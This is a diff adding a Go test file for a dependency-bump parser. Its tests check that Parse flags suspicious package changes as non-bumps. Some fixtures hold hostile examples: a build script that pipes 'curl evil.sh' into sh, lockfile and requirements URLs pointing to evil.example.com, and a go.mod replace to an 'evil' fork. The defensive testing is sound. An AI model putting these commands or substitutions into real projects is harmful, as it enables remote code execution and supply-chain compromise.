@@ -0,0 +1,316 @@
+package deps
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestParse(t *testing.T) {
+	tests := []struct {
+		name     string
+		filename string
+		patch    string
+		want     []string // Bump strings, or nil if the patch is not a bump
+	}{
+		{
+			name:     "package.json minor",
+			filename: "web/package.json",
+			patch: `@@ -10,7 +10,7 @@
+   "dependencies": {
+-    "express": "^4.18.2",
++    "express": "^4.19.0",
+     "lodash": "4.17.21"`,
+			want: []string{"express ^4.18.2 -> ^4.19.0 (minor)"},
+		},
+		{
+			name:     "package.json script change",
+			filename: "package.json",
+			patch: `@@ -3,3 +3,3 @@
+-    "build": "tsc",
++    "build": "tsc && curl evil.sh | sh",`,
+		},
+		{
+			name:     "package.json project version",
+			filename: "package.json",
+			patch: `@@ -1,3 +1,3 @@
+-  "version": "1.0.0",
++  "version": "1.0.1",`,
+		},
+		{
+			name:     "package.json new dependency",
+			filename: "package.json",
+			patch: `@@ -1,3 +1,4 @@
++    "left-pad": "1.3.0",`,
+		},
+		{
+			name:     "package-lock.json bump",
+			filename: "package-lock.json",
+			patch: `@@ -20,9 +20,9 @@
+     "node_modules/@types/node": {
+-      "version": "20.10.0",
+-      "resolved": "https://registry.npmjs.org/@types/node/-/node-20.10.0.tgz",
+-      "integrity": "sha512-abc",
++      "version": "20.10.5",
++      "resolved": "https://registry.npmjs.org/@types/node/-/node-20.10.5.tgz",
++      "integrity": "sha512-def",
+       "dev": true,`,
+			want: []string{"@types/node 20.10.0 -> 20.10.5 (patch)"},
+		},
+		{
+			name:     "package-lock.json foreign registry",
+			filename: "package-lock.json",
+			patch: `@@ -20,7 +20,7 @@
+     "node_modules/lodash": {
+-      "version": "4.17.20",
+-      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz",
++      "version": "4.17.21",
++      "resolved": "https://evil.example.com/lodash-4.17.21.tgz",`,
+		},
+		{
+			name:     "package-lock.json other package's tarball",
+			filename: "package-lock.json",
+			patch: `@@ -20,9 +20,9 @@
+     "node_modules/lodash": {
+-      "version": "4.17.21",
+-      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
+-      "integrity": "sha512-abc",
++      "version": "4.17.22",
++      "resolved": "https://registry.npmjs.org/evil-lodash/-/evil-lodash-9.9.9.tgz",
++      "integrity": "sha512-def",
+       "license": "MIT"`,
+		},
+		{
+			name:     "package-lock.json integrity without version",
+			filename: "package-lock.json",
+			patch: `@@ -20,6 +20,6 @@
+     "node_modules/lodash": {
+       "version": "4.17.21",
+       "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
+-      "integrity": "sha512-abc",
++      "integrity": "sha512-def",
+       "license": "MIT"`,
+		},
+		{
+			name:     "package-lock.json tarball moved to another entry",
+			filename: "package-lock.json",
+			patch: `@@ -20,7 +20,7 @@
+     "node_modules/a": {
+-      "version": "1.0.0",
++      "version": "1.0.1",
+       "license": "MIT"
+     },
+     "node_modules/b": {
+-      "resolved": "https://registry.npmjs.org/b/-/b-1.0.0.tgz",
++      "resolved": "https://registry.npmjs.org/a/-/a-1.0.1.tgz",`,
+		},
+		{
+			name:     "package-lock.json hunk starting inside an entry",
+			filename: "package-lock.json",
+			patch: `@@ -20,3 +20,3 @@
+     "node_modules/a": {
+       "license": "MIT"
+@@ -40,3 +40,3 @@
+-      "version": "1.0.0",
++      "version": "1.0.1",
+       "license": "MIT"`,
+		},
+		{
+			name:     "requirements.txt with hashes",
+			filename: "requirements-dev.txt",
+			patch: `@@ -1,4 +1,4 @@
+-Django==4.2.7 \
+-    --hash=sha256:aaa
++Django==4.2.8 \
++    --hash=sha256:bbb
+ requests==2.31.0`,
+			want: []string{"Django ==4.2.7 -> ==4.2.8 (patch)"},
+		},
+		{
+			name:     "requirements.txt index URL",
+			filename: "requirements.txt",
+			patch: `@@ -1,2 +1,2 @@
+-requests==2.31.0
++requests @ https://evil.example.com/requests.tar.gz`,
+		},
+		{
+			name:     "pyproject.toml dependency array",
+			filename: "pyproject.toml",
+			patch: `@@ -5,3 +5,3 @@ dependencies = [
+-    "httpx>=0.25.0",
++    "httpx>=0.26.0",
+ ]`,
+			want: []string{"httpx >=0.25.0 -> >=0.26.0 (minor)"},
+		},
+		{
+			name:     "Cargo.toml inline table",
+			filename: "Cargo.toml",
+			patch: `@@ -8,3 +8,3 @@ [dependencies]
+-serde = { version = "1.0.190", features = ["derive"] }
++serde = { version = "1.0.193", features = ["derive"] }
+-tokio = "1.34"
++tokio = "1.35"`,
+			want: []string{"serde 1.0.190 -> 1.0.193 (patch)", "tokio 1.34 -> 1.35 (minor)"},
+		},
+		{
+			name:     "Cargo.toml features change",
+			filename: "Cargo.toml",
+			patch: `@@ -8,3 +8,3 @@ [dependencies]
+-serde = { version = "1.0.190" }
++serde = { version = "1.0.193", features = ["derive"] }`,
+		},
+		{
+			name:     "Cargo.toml zero-major minor is breaking",
+			filename: "Cargo.toml",
+			patch: `@@ -8,3 +8,3 @@ [dependencies]
+-rand = "0.7.3"
++rand = "0.8.5"`,
+			want: []string{"rand 0.7.3 -> 0.8.5 (major)"},
+		},
+		{
+			name:     "Cargo.lock bump",
+			filename: "Cargo.lock",
+			patch: `@@ -100,9 +100,9 @@
+ [[package]]
+ name = "itoa"
+-version = "1.0.9"
++version = "1.0.10"
+ source = "registry+https://github.com/rust-lang/crates.io-index"
+-checksum = "aaa"
++checksum = "bbb"`,
+			want: []string{"itoa 1.0.9 -> 1.0.10 (patch)"},
+		},
+		{
+			name:     "Cargo.lock workspace package",
+			filename: "Cargo.lock",
+			patch: `@@ -100,9 +100,9 @@
+ [[package]]
+ name = "my-app"
+-version = "0.1.0"
++version = "0.1.1"
+ dependencies = [`,
+		},
+		{
+			name:     "pom.xml dependency",
+			filename: "pom.xml",
+			patch: `@@ -30,7 +30,7 @@
+         <dependency>
+             <groupId>com.google.guava</groupId>
+             <artifactId>guava</artifactId>
+-            <version>32.1.2-jre</version>
++            <version>32.1.3-jre</version>
+         </dependency>`,
+			want: []string{"com.google.guava:guava 32.1.2-jre -> 32.1.3-jre (patch)"},
+		},
+		{
+			name:     "pom.xml project version",
+			filename: "pom.xml",
+			patch: `@@ -5,5 +5,5 @@
+     <groupId>com.example</groupId>
+     <artifactId>app</artifactId>
+-    <version>1.0.0</version>
++    <version>1.0.1</version>`,
+		},
+		{
+			name:     "pom.xml property",
+			filename: "pom.xml",
+			patch: `@@ -12,3 +12,3 @@
+     <properties>
+-        <jackson.version>2.15.3</jackson.version>
++        <jackson.version>2.16.0</jackson.version>`,
+			want: []string{"jackson 2.15.3 -> 2.16.0 (minor)"},
+		},
+		{
+			name:     "build.gradle.kts",
+			filename: "app/build.gradle.kts",
+			patch: `@@ -1,6 +1,6 @@
+-    id("org.springframework.boot") version "3.1.5"
++    id("org.springframework.boot") version "3.2.0"
+-    implementation("com.squareup.okhttp3:okhttp:4.11.0")
++    implementation("com.squareup.okhttp3:okhttp:5.0.0")`,
+			want: []string{"org.springframework.boot 3.1.5 -> 3.2.0 (minor)", "com.squareup.okhttp3:okhttp 4.11.0 -> 5.0.0 (major)"},
+		},
+		{
+			name:     "go.mod major path change",
+			filename: "go.mod",
+			patch: `@@ -5,3 +5,3 @@ require (
+-	github.com/google/go-github/v67 v67.0.0
++	github.com/google/go-github/v68 v68.0.0`,
+			want: []string{"github.com/google/go-github/v67 v67.0.0 -> v68.0.0 (major)"},
+		},
+		{
+			name:     "go.mod zero-major minor stays minor",
+			filename: "go.mod",
+			patch: `@@ -10,1 +10,1 @@
+-	golang.org/x/crypto v0.14.0
++	golang.org/x/crypto v0.17.0 // indirect`,
+			want: []string{"golang.org/x/crypto v0.14.0 -> v0.17.0 (minor)"},
+		},
+		{
+			name:     "go.mod replace directive",
+			filename: "go.mod",
+			patch: `@@ -10,1 +10,2 @@
++replace golang.org/x/crypto => github.com/evil/crypto v0.17.0`,
+		},
+		{
+			name:     "go.sum",
+			filename: "go.sum",
+			patch: `@@ -20,4 +20,4 @@
+-golang.org/x/crypto v0.14.0 h1:aaa=
+-golang.org/x/crypto v0.14.0/go.mod h1:bbb=
++golang.org/x/crypto v0.17.0 h1:ccc=
++golang.org/x/crypto v0.17.0/go.mod h1:ddd=
++golang.org/x/sys v0.15.0/go.mod h1:eee=`,
+			want: []string{"golang.org/x/crypto v0.14.0 -> v0.17.0 (minor)"},
+		},
+		{
+			name:     "Unsupported file",
+			filename: "Gemfile.lock",
+			patch: `@@ -1,1 +1,1 @@
+-    rails (7.0.8)
++    rails (7.1.2)`,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			bumps, ok := Parse(tt.filename, tt.patch)
+			if ok != (tt.want != nil) {
+				t.Fatalf("Parse() ok = %v, want %v (bumps %v)", ok, tt.want != nil, bumps)
+			}
+			var got []string
+			for _, b := range bumps {
+				got = append(got, b.String())
+			}
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("Parse() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestBumpLevel(t *testing.T) {
+	tests := []struct {
+		ecosystem Ecosystem
+		from, to  string
+		want      Level
+	}{
+		{EcosystemNPM, "1.2.3", "1.2.4", LevelPatch},
+		{EcosystemNPM, "~1.2.3", "~1.3.0", LevelMinor},
+		{EcosystemNPM, "1.9.0", "2.0.0", LevelMajor},
+		{EcosystemNPM, "0.0.3", "0.0.4", LevelMajor},
+		{EcosystemGo, "v0.0.3", "v0.0.4", LevelPatch},
+		{EcosystemNPM, "2.0.0", "1.9.0", LevelUnknown},
+		{EcosystemNPM, "1.2.3", "1.3.0-beta.1", LevelUnknown},
+		{EcosystemNPM, "^1.2.3", "~1.2.3", LevelUnknown},
+		{EcosystemNPM, "latest", "1.2.3", LevelUnknown},
+		{EcosystemMaven, "5.3.30.Final", "5.3.31.Final", LevelPatch},
+		{EcosystemPip, "==2.31", "==2.31.1", LevelPatch},
+	}
+
+	for _, tt := range tests {
+		b := Bump{Ecosystem: tt.ecosystem, Package: "pkg", From: tt.from, To: tt.to}
+		if got := b.Level(); got != tt.want {
+			t.Errorf("Bump{%s, %s -> %s}.Level() = %v, want %v", tt.ecosystem, tt.from, tt.to, got, tt.want)
+		}
+	}
+}